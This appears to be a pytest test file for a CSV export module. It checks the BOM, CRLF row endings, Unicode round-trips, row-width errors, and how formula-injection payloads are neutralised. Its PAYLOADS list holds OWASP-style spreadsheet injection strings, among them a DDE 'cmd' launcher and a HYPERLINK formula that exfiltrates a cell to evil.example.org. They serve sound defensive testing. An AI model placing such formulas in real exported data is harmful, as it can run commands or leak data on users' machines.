"""The CSV writer: RFC 4180 as csv.reader reads it, the BOM, and formulas made harmless."""
from __future__ import annotations

import csv
import io

import pytest

from thin_build.opendata.csv_format import BOM, csv_text, neutralise


def read(text: str) -> list[list[str]]:
    """What a CSV consumer gets: Python's own parser over the UTF-8 bytes."""
    data = text.encode("utf-8")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# Payloads from OWASP's CSV injection page and spreadsheet habits, and what each becomes.
PAYLOADS = [
    ("=1+1", "'=1+1"),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ('=HYPERLINK("https://evil.example.org/?d="&A1,"Click")',
     '\'=HYPERLINK("https://evil.example.org/?d="&A1,"Click")'),
    ("+44 20 7946 0000", "'+44 20 7946 0000"),
    ("-", "'-"),
    ("-5", "-5"),
    ("+12", "+12"),
    ("-2.5", "-2.5"),
    ("a=b", "a=b"),
    ("Stage 1 - emerging", "Stage 1 - emerging"),
    ("", ""),
]


@pytest.mark.parametrize(("payload", "written"), PAYLOADS)
def test_formula_payloads_are_neutralised_and_plain_numbers_kept(payload: str,
                                                                 written: str) -> None:
    assert neutralise(payload) == written
    assert read(csv_text(["cell"], [[payload]])) == [["cell"], [written]]


def test_the_file_starts_with_a_bom_and_ends_every_row_with_crlf() -> None:
    text = csv_text(["name", "note"], [["Bow Youth", "plain"], ["Spice, Kitchen", 'say "hi"']])
    assert text.encode("utf-8").startswith(b"\xef\xbb\xbf")
    assert text == (BOM + "name,note\r\nBow Youth,plain\r\n"
                    '"Spice, Kitchen","say ""hi"""\r\n')


def test_any_text_round_trips_through_csv_reader() -> None:
    rows = [
        ["নারী সংঘ মহিলা দল", "বাংলা; English", "line one\nline two"],
        ["Quote \" and comma ,", "CRLF\r\ninside", "  spaces kept  "],
        ["اردو", "emoji 🙂", ""],
    ]
    assert read(csv_text(["a", "b", "c"], rows)) == [["a", "b", "c"], *rows]


def test_a_row_of_the_wrong_width_is_refused() -> None:
    with pytest.raises(ValueError, match="a row has 1 cells for 2 columns"):
        csv_text(["a", "b"], [["only one"]])
